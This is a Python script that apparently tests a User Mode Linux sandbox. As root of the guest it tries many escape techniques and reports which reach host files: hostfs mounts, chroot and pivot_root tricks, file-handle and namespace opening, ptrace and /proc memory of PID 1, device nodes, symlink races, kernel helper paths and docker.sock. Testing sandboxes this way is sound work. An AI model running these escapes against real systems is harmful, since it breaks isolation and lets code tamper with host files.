"""Tries, as root of a sandbox's guest, to write files of this machine outside of the current folder, and to see what is
hidden: `python3 attacks.py OUTSIDE`. OUTSIDE: a folder of this machine, with the file `kept`.

Prints a line `NAME: what was reached` for each attempt that succeeds. Each runs in a process of its own; most also as
root of a user namespace.
"""

import ctypes
import errno
import mmap
import os
import socket
import stat
import struct
import sys
import traceback
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

_libc = ctypes.CDLL(None, use_errno=True)
_OUTSIDE = Path(sys.argv[1])
_KEPT = _OUTSIDE / "kept"
_NEWNS, _NEWUSER, _NEWNET = 0x0002_0000, 0x1000_0000, 0x4000_0000
_REMOUNT, _BIND = 32, 4096
_DETACH = 2
_FSOPEN, _FSCONFIG, _FSMOUNT, _MOUNT_SETATTR, _PIVOT_ROOT = 430, 431, 432, 442, 155
_NAME_TO_HANDLE, _OPEN_BY_HANDLE, _PIDFD_OPEN, _PIDFD_GETFD = 303, 304, 434, 438
_PTRACE_ATTACH, _PTRACE_SEIZE = 16, 0x4206
_NSFS = -10003  # FD_NSFS_ROOT, <linux/fcntl.h>
_PLACE = "/run/place"
_PROC = Path("/proc/version").stat().st_dev


def _mount(source: object, target: object, kind: str | None, flags: int = 0, data: str = "") -> None:
    done = _libc.mount(
        os.fsencode(str(source)), os.fsencode(str(target)), kind.encode() if kind else None, flags, data.encode()
    )
    if done:
        raise OSError(ctypes.get_errno(), f"mount {kind} {flags}")


def _call(number: int, *arguments: object) -> int:
    done = int(_libc.syscall(number, *arguments))
    if done < 0:
        raise OSError(ctypes.get_errno(), f"system call {number}")
    return done


def _write(path: Path) -> None:
    path.write_text("changed")


def _write_below(place: str) -> None:
    """Writes OUTSIDE's files below a place that may be this machine's root."""
    for path in (Path(place, *_KEPT.parts[1:]), Path(place, *_OUTSIDE.parts[1:], "made")):
        with suppress(OSError):
            path.write_text("changed")


def _look_below(place: str) -> str | None:
    """Tells if this machine's own /proc or /run can be seen below a place. The guest's are a proc, and a tmpfs."""
    for name in ("proc/version", "run/priolab-was-here"):
        with suppress(OSError):
            path = Path(place, name)
            if path.exists() and path.stat().st_dev != _PROC:
                return str(path)
    return None


def mount_hostfs() -> str | None:
    """A new mount of hostfs, of all places."""
    for data in ("/", str(_OUTSIDE), "/proc"):
        with suppress(OSError):
            _mount("none", _PLACE, "hostfs", data=data)
            _write_below(_PLACE)
            with suppress(OSError):
                _write(Path(_PLACE, "made"))
            return f"hostfs of {data} is mounted"
    return None


def mount_by_descriptors() -> str | None:
    """A new mount of hostfs by fsopen(2)."""
    context = _call(_FSOPEN, b"hostfs", 0)
    _call(_FSCONFIG, context, 1, b"hostfs", str(_OUTSIDE).encode(), 0)
    _call(_FSCONFIG, context, 6, None, None, 0)
    return f"hostfs is mounted, descriptor {_call(_FSMOUNT, context, 0, 0)}"


def remount() -> str | None:
    """Remounts of what is there: the file system's flags, the mount's flags, and both by mount_setattr(2)."""
    for place in ("/", "/usr", "/etc", "/root", "/home"):
        for flags in (_REMOUNT, _REMOUNT | _BIND):
            with suppress(OSError):
                _mount("none", place, None, flags)
                if place == "/":
                    continue  # the programs' own root, of the guest's memory
                Path(place, "made").touch()
                return f"{place} was remounted and written"
        with suppress(OSError):
            attributes = struct.pack("=QQQQ", 0, 1, 0, 0)
            _call(_MOUNT_SETATTR, -100, place.encode(), 0, attributes, len(attributes))
            Path(place, "made").touch()
            return f"{place} was written after mount_setattr"
    return None


def look_beneath() -> str | None:
    """Binds of folders without what is mounted on them, and overlays of them."""
    for place in ("/", "/..", "/proc/self/root", "/var", "/dev", "/proc", "/run", "/tmp"):
        with suppress(OSError):
            _mount(place, _PLACE, None, _BIND)
            if seen := _look_below(_PLACE):
                return seen
            _libc.umount2(_PLACE.encode(), _DETACH)
    for lower in ("/", "/proc", "/run"):
        with suppress(OSError):
            _mount("overlay", _PLACE, "overlay", data=f"lowerdir={lower}:/usr")
            if seen := _look_below(_PLACE):
                return seen
            _libc.umount2(_PLACE.encode(), _DETACH)
    return None


def unmount() -> str | None:
    """Takes away what hides this machine's files."""
    for place in ("/proc", "/run", "/tmp", "/dev", "/mnt", "/sys/module/um_arch", str(Path.cwd())):
        for _ in range(4):
            if _libc.umount2(place.encode(), _DETACH):
                break
    _write_below("/")
    if Path("/sys/module/um_arch/parameters").exists():
        return "the guest kernel's own settings"
    for name in ("/mnt/asked", "/mnt/said"):
        if Path(name).exists():
            return name
    return _look_below("/")


def pivot() -> str | None:
    """Changes of the root: pivot_root(2), chroot(2) with a folder left open, and `..` above the root."""
    here = os.open("/", os.O_RDONLY)
    with suppress(OSError):
        os.chroot("/usr")
        os.fchdir(here)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        _write_below("/")
        if seen := _look_below("/.."):
            return seen
    with suppress(OSError):
        _call(_PIVOT_ROOT, b".", b".")
        return _look_below("/")
    return None


def first_process() -> str | None:
    """The files, the memory, the descriptors and the namespaces of processes that are not the sandbox's programs."""
    mine = Path("/proc/self/ns/mnt").readlink()
    for process in sorted(Path("/proc").glob("[0-9]*")):
        for name in ("root", "cwd"):
            with suppress(OSError):
                (process / name / "mnt/asked").stat()
                return f"{process}/{name}"
        with suppress(OSError):
            if (process / "ns/mnt").readlink() != mine:
                return f"{process}/ns/mnt"
        pid = int(process.name)
        if pid == 1:
            with suppress(OSError):
                (process / "mem").open("r+b").close()
                return "the memory of the first process"
            with suppress(OSError):
                for descriptor in (process / "fd").iterdir():
                    return f"a descriptor of the first process: {descriptor.readlink()}"
            with suppress(OSError):
                return f"its descriptor {_call(_PIDFD_GETFD, _call(_PIDFD_OPEN, pid, 0), 0, 0)}"
            with suppress(OSError):
                if _libc.setns(_call(_PIDFD_OPEN, pid, 0), _NEWNS) == 0:
                    return "its mounts, by its pidfd"
            for request in (_PTRACE_ATTACH, _PTRACE_SEIZE):
                if _libc.ptrace(request, pid, None, None) == 0:
                    return "it can be traced"
            word = ctypes.create_string_buffer(8)
            local = (ctypes.c_void_p * 2)(ctypes.addressof(word), 8)
            remote = (ctypes.c_void_p * 2)(0x40_0000, 8)
            if _libc.process_vm_readv(pid, local, 1, remote, 1, 0) >= 0:
                return "its memory, by process_vm_readv"
            if ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
                return f"process_vm_readv: {os.strerror(ctypes.get_errno())}"
    return None


def handles() -> str | None:
    """File handles: of the root's file system, and of namespaces by their numbers."""
    for place in ("/usr", "/etc", str(Path.cwd()), "/run"):
        handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
        mount = ctypes.c_int()
        if _libc.syscall(_NAME_TO_HANDLE, -100, place.encode(), handle, ctypes.byref(mount), 0):
            continue
        with suppress(OSError):
            opened = _call(_OPEN_BY_HANDLE, os.open(place, os.O_RDONLY), handle, os.O_RDONLY)
            if place != "/run":
                return f"{place}: {opened}"
    own = Path("/proc/self/ns/mnt").readlink()
    for namespace in range(1, 512):
        handle = ctypes.create_string_buffer(struct.pack("=IiQII", 16, 0xF1, namespace, 0, 0))
        with suppress(OSError):
            opened = _call(_OPEN_BY_HANDLE, _NSFS, handle, os.O_RDONLY)
            if Path(f"/proc/self/fd/{opened}").readlink() != own and _libc.setns(opened, _NEWNS) == 0:
                return f"a mount namespace: {namespace}"
    return None


def devices() -> str | None:
    """Devices: those of the guest's kernel, of its consoles and of this machine's file system."""
    names = {"console": (5, 1), "mem": (1, 1), "kmsg": (1, 11), "tty0": (4, 0), "tty1": (4, 1), "ubda": (98, 0)}
    for name, numbers in names.items():
        if Path("/dev", name).exists():
            return f"/dev/{name}"
        for folder in ("/run", ".", "/dev"):
            for kind in (stat.S_IFCHR, stat.S_IFBLK):
                path = Path(folder, f"device-{name}")
                with suppress(OSError):
                    os.mknod(path, kind | 0o666, os.makedev(*numbers))
                    return f"{path} was made"
    with suppress(OSError):
        _mount("none", _PLACE, "devtmpfs")
        return "devtmpfs is mounted"
    return None


def in_place_of_a_removed_file() -> str | None:
    """A symlink in place of a file that is open: hostfs knows the file's path alone."""
    here = Path.cwd()
    for name, change in (("write", _write), ("truncate", lambda path: os.truncate(path, 1))):
        file, other = here / f"file-{name}", here / f"other-{name}"
        file.write_text("mine")
        os.link(file, other)
        held = [os.open(path, os.O_PATH) for path in (file, other)]
        other.stat()
        file.unlink()
        file.symlink_to(_KEPT)
        with suppress(OSError):
            change(Path(f"/proc/self/fd/{held[0]}"))
    for name, change in (
        ("mode", lambda held: os.fchmod(held, 0o777)),
        ("owner", lambda held: os.fchown(held, 1, 1)),
        ("times", lambda held: os.utime(held, (1, 1))),
    ):
        folder = here / f"folder-{name}"
        folder.mkdir()
        held_folder = os.open(folder, os.O_RDONLY)
        folder.rmdir()
        folder.symlink_to(_OUTSIDE)
        with suppress(OSError):
            change(held_folder)
    if " - overlay " in Path("/proc/self/mountinfo").read_text():
        return None  # files of the guest's memory are kept while they are open
    pipe, other = here / "pipe", here / "other-pipe"
    pipe.write_text("mine")
    os.link(pipe, other)
    held = [os.open(path, os.O_PATH) for path in (pipe, other)]
    pipe.unlink()
    os.mkfifo(pipe)
    with suppress(OSError):
        os.close(os.open(f"/proc/self/fd/{held[0]}", os.O_RDWR | os.O_NONBLOCK))
        return "a pipe of this machine was opened"
    return None


def out_of_the_folder() -> str | None:
    """Symlinks, `..`, hard links and renames that lead out of the folder."""
    here = Path.cwd()
    (here / "link").symlink_to(_KEPT)
    (here / "way").symlink_to(_OUTSIDE)
    for path in (here / "link", here / "way/made", here / ".." / _OUTSIDE.name / "made"):
        with suppress(OSError):
            _write(path)
            return f"{path} was written"
    for source in (_KEPT, Path("/etc/passwd")):
        with suppress(OSError):
            os.link(source, here / "hard")
            return f"{source} has a hard link"
    with suppress(OSError):
        (here / "link").rename(_OUTSIDE / "moved")
        return "a file was moved out"
    return None


def standard_input() -> str | None:
    """The file of the standard input, which is in the folder of orders."""
    with suppress(OSError):
        os.close(os.open("/proc/self/fd/0", os.O_RDWR))
        return "the standard input was opened for writing"
    with suppress(OSError):
        os.fchmod(0, 0o777)
        return "the standard input has another mode"
    with suppress(OSError):
        os.truncate("/proc/self/fd/0", 0)
        return "the standard input was truncated"
    with suppress(OSError):
        os.link("/proc/self/fd/0", Path.cwd() / "input", follow_symlinks=True)
        return "the standard input has a hard link"
    with suppress(OSError):
        mmap.mmap(0, 1, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
        return "the standard input was mapped for writing"
    return None


def helpers() -> str | None:
    """Programs that the kernel starts itself, as the first root's."""
    for name in ("core_pattern", "modprobe", "hotplug"):
        path = Path("/proc/sys/kernel", name)
        if path.exists():
            return str(path)
    with suppress(OSError):
        _mount("none", _PLACE, "cgroup", data="none,name=mine")
        return "a cgroup hierarchy with a release agent"
    with suppress(OSError):
        _libc.init_module(b"", 0, b"")
        if ctypes.get_errno() not in (errno.ENOSYS, errno.EPERM):
            return "modules can be loaded"
    return None


def sockets() -> str | None:
    """Sockets of this machine, and pipes in its folders."""
    for path in (_OUTSIDE / "socket", Path("/run/dbus/system_bus_socket"), Path("/var/run/docker.sock")):
        with suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.connect(str(path))
            return f"{path} was connected to"
    return None


def switch_off() -> str | None:
    """The guest's end, by a program of it."""
    if _libc.reboot(0x4321_FEDC) == 0:
        return "reboot(2)"
    return None


_ATTACKS: tuple[Callable[[], str | None], ...] = (
    mount_hostfs,
    mount_by_descriptors,
    remount,
    look_beneath,
    unmount,
    pivot,
    first_process,
    handles,
    devices,
    in_place_of_a_removed_file,
    out_of_the_folder,
    standard_input,
    helpers,
    sockets,
    switch_off,
)


def _as_another_root() -> None:
    """Makes this process root of user, mount and network namespaces of its own."""
    if _libc.unshare(_NEWUSER | _NEWNS | _NEWNET):
        raise OSError(ctypes.get_errno(), "unshare")
    Path("/proc/self/setgroups").write_text("deny")
    for name in ("uid_map", "gid_map"):
        Path("/proc/self", name).write_text("0 0 1")


def _tried(attack: Callable[[], str | None], *, within: bool) -> None:
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        folder = Path(f"{attack.__name__}-{int(within)}").absolute()
        folder.mkdir()
        os.chdir(folder)
        if within:
            _as_another_root()
        Path(_PLACE).mkdir(exist_ok=True)
        if reached := attack():
            print(f"{attack.__name__}{' in a user namespace' if within else ''}: {reached}", flush=True)
    except OSError:
        pass
    except BaseException:
        traceback.print_exc(file=sys.stdout)
    finally:
        sys.stdout.flush()
        os._exit(0)


if __name__ == "__main__":
    if "User Mode Linux" not in Path("/proc/cpuinfo").read_text():
        raise SystemExit("this is no guest")
    for each in _ATTACKS:
        for inside in (False, True):
            _tried(each, within=inside)
    print("all tried")
